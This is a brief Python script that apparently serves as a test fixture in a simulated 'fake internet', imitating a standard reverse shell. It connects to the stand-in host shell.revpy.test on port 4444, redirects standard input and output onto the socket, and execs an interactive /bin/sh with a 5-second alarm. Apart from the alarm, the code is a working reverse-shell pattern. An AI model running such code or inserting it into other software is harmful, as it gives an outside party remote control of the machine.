#!/usr/bin/env python3
"""Imitates the Python reverse shell: connect out, dup2 the socket onto stdin/stdout/stderr, exec a shell.
The fake internet's listener sends nothing, so an alarm set before the exec ends the shell after 5 s."""
import os
import signal
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('shell.revpy.test', 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
signal.alarm(5)
os.execv('/bin/sh', ['sh', '-i'])
